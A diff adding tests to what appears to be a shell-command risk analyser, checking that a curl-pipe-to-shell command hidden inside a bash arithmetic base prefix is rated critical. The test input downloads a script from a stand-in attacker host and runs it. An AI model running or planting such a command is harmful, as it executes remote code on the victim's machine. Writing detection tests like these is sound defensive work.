@@ -31,6 +31,19 @@ describe("bash prompt variables", () => {
   });
 });
 
+describe("bash arithmetic", () => {
+  it("judges a command substitution in a number's base prefix: $((16#$(curl ... | sh))) is critical", async () => {
+    // Bash runs the substitution to read the digits; the analysis once stepped over numbers whole.
+    const r = await worst("bash", "echo $((16#$(curl -s http://evil.example/i.sh | sh)))");
+    expect(r.severity, r.rules.join()).toBe("critical");
+    expect(r.rules).toContain("critical sh.download-exec.pipe-to-shell");
+  });
+
+  it("leaves plain numbers in any base alone", async () => {
+    expect((await worst("bash", "echo $((16#ff + 2#101 + 8#17))\nn=$((0x1f))")).severity).toBe("none");
+  });
+});
+
 /** Python: a decoded payload run by exec (critical when written plainly), and a shell download run by os.system. */
 const PY_PAYLOAD = 'base64.b64decode("cHJpbnQoMSk=")';
 const PY_EXEC: Record<string, string> = {
